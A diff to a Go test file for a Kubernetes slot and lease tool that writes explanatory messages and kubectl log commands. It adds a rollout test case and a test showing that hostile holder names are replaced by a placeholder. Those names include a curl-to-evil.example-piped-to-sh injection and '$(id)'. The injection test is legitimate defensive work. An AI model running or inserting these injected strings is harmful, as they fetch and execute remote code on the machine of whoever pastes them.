@@ -209,6 +209,11 @@ func TestSlotSaysWhyItsNextMoveWaits(t *testing.T) {
 			want: "old got the slot because it is preferred, and its application has not served since. If it does not in a minute, or in what its probes allow, old hands over to a standby that answers. " +
 				"Read its log: kubectl logs -n shop old",
 		},
+		"it took the slot back after its hang": {
+			annotations: unserved(`,"hangs":1,"hung":"old_old-uid"`), pods: []*corev1.Pod{says("old", reasonFails, "old holds; its application "+api.NotServedYet, with(api.RunArgs{YieldAfter: time.Minute}, ""))},
+			want: "old got the slot because it is preferred, and its application has not served since. If it does not in a minute, or in what its probes allow, old hands over to a standby that answers. " +
+				"Read its log: kubectl logs -n shop old",
+		},
 		"it fails its probe, and may": {annotations: unserved(""), pods: []*corev1.Pod{says("old", reasonFails, "old holds")}},
 		"preferred": {
 			annotations: rollout(`"yields":"later"`), pods: []*corev1.Pod{preferred, says("old", "Holding", "x", with(zoned, "b"))},
@@ -342,4 +347,14 @@ func TestForgedTalkIsShort(t *testing.T) {
 			assert.Less(t, len(text), 16<<10)
 		})
 	}
+}
+
+// Whoever may write a Lease can write any holder, and people paste these commands into a shell.
+func TestCommandsNameOnlyWhatCanBeAPod(t *testing.T) {
+	c := conversation{Slot: &Slot{Namespace: "shop"}}
+	assert.Equal(t, "kubectl logs -n shop web-1.a", c.logs("web-1.a"))
+	for _, holder := range []string{"x;curl${IFS}evil.example|sh;", "-o", "", "$(id)", "a b"} {
+		assert.Equal(t, "kubectl logs -n shop POD", c.logs(holder))
+	}
+	assert.Empty(t, c.lock("start.a;id waits"))
 }
